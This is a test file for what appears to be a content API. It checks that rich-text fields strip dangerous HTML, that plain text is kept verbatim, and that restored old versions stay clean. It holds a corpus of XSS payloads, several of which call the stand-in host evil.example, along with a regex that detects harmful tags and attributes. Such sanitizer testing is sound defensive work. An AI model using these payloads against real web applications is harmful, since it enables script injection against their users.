import { type AnyRecord, type Field, fieldsOf, type Resource, startsOf } from '@bridge/contract';
import { describe, expect, it } from 'vitest';
import { isTorture } from '../../testing/scale.ts';
import { TELLING } from './testing/representatives.ts';
import { filledFields, isSampled, isSource } from './testing/sample.ts';
import { isMade, specimen } from './testing/specimen.resource.ts';
import { useEngine } from './testing/use-engine.ts';

/** S-23, S-24: a text is data. Of HTML, only what an editor writes is kept. */
const engine = useEngine();

const CORPUS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p onclick=alert(1) onmouseover="alert(1)">x</p>',
  '<<script>script>alert(1)<</script>/script>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '</textarea><script>alert(1)</script>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '\u202e<script>alert(1)</script>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
];

/** All texts for the specimen, which has every kind of text, and for every resource in long runs; else a few each. */
function corpusFor(resource: Resource): readonly string[] {
  if (isTorture || resource === specimen) return CORPUS;
  const turn = TELLING.indexOf(resource) % SHARES;
  return CORPUS.filter((_, rank) => rank % SHARES === turn);
}
const SHARES = 6;

/** What no stored rich text may hold: tags that run or frame, handlers, styles, addresses that are code. */
const HARMFUL =
  /<\s*\/?\s*(script|style|iframe|object|embed|svg|math|img|video|link|meta|base|form|button|template|noscript)|<[^>]*\s(on\w+|style|srcdoc|formaction)\s*=|<[^>]*(javascript|vbscript|data)\s*:|href="\/\//i;

/** The value of a field with a text wherever it can have one; undefined when its form forbids it. */
function carrying(field: Field, text: string): unknown {
  if (isSource(field) || !isSampled(field)) return undefined;
  const value =
    field.kind === 'translated'
      ? { fr: text, en: text }
      : field.kind === 'json'
        ? { texte: text, [text]: [text] }
        : field.kind === 'list'
          ? startsOf(field).map(({ values }) => ({
              ...values,
              ...Object.fromEntries(
                Object.entries(fieldsOf(field, values)).map(([name, inner]) => [
                  name,
                  carrying(inner, text) ?? emptyOf(inner),
                ]),
              ),
            }))
          : text;
  return field.schema.safeParse(value).success ? value : undefined;
}

const emptyOf = ({ kind }: Field) => (kind === 'references' ? [] : null);

/** The texts of a value that are HTML. */
function richTexts(field: Field | undefined, value: unknown): string[] {
  if (field?.kind === 'richText') return [String(value)];
  if (field?.kind === 'translated' && field.of === 'richText') return Object.values(Object(value)).map(String);
  if (field?.kind !== 'list' || !Array.isArray(value)) return [];
  return value.flatMap((item) =>
    Object.entries(fieldsOf(field, item)).flatMap(([name, inner]) => richTexts(inner, item[name])),
  );
}

function carriers(resource: Resource, text: string): Record<string, unknown> {
  const unique = ({ unique: sentence, kind }: Field) => sentence !== undefined || kind === 'secret';
  const values = filledFields(resource).map(([name, field]) => [
    name,
    unique(field) ? undefined : carrying(field, text),
  ]);
  return Object.fromEntries(values.filter(([, value]) => value !== undefined));
}

/** A record with a person's text: at its creation, or by a change of what a source brought. */
async function written(resource: Resource, sent: object): Promise<AnyRecord> {
  if (isMade(resource)) return engine().make(resource, {}, sent);
  const { id, version } = await engine().make(resource);
  const body = { ...sent, version };
  return engine().data<AnyRecord>(engine().root, resource.calls.update, { params: { id }, body });
}

describe.each(TELLING)('of $id', (resource) => {
  it('whatever is stored comes back as the text that it is, and harmless where it is HTML', async () => {
    for (const text of corpusFor(resource)) {
      const sent = carriers(resource, text);
      expect(Object.keys(sent).length, text).toBeGreaterThan(0);
      const { id } = await written(resource, sent);
      const answer = await engine().ask(engine().root, resource.calls.get, { params: { id } });
      expect(answer.headers).toMatchObject({
        'content-type': 'application/json; charset=utf-8',
        'x-content-type-options': 'nosniff',
      });
      const read: AnyRecord = answer.json().data;
      for (const [name, value] of Object.entries(sent)) {
        const html = richTexts(resource.fields[name], read[name]);
        for (const kept of html) expect(kept, text).not.toMatch(HARMFUL);
        if (html.length === 0) expect([name, read[name]]).toEqual([name, value]);
      }
    }
  });
});

it('what an editor writes stays as it was written, everywhere that rich text is', async () => {
  const html =
    '<h2>Titre</h2><p>Un <strong>gras</strong>, un <em>italique</em>, <u>souligné</u>, <s>barré</s><br />et <a href="https://exemple.fr/?a=1">un lien</a></p><ul><li>un</li></ul><ol><li>deux</li></ol><blockquote>cité</blockquote><p><code>x</code></p>';
  const sent = {
    presentation: html,
    contenu: { fr: html },
    etapes: [{ titre: 'Un', recit: html, tag: null, voisins: [] }],
  };
  const { id } = await engine().make(specimen, {}, sent);
  expect(await engine().data(engine().root, specimen.calls.get, { params: { id } })).toMatchObject(sent);
});

it('harm that was stored before it was known does not come back through an old version', async () => {
  const { id } = await engine().make(specimen);
  await engine()
    .world.db.updateTable('versions')
    .set({ valeurs: JSON.stringify({ ...(await engine().make(specimen)), presentation: CORPUS[2] }) })
    .where('ressource', '=', 'specimen')
    .where('ligne_id', '=', id)
    .execute();
  const body = { version: 1 };
  const params = { id, n: 1 };
  const answer = await engine().ask(engine().root, specimen.calls.restoreVersion, { params, body });
  expect(answer.body).not.toContain('onerror');
});
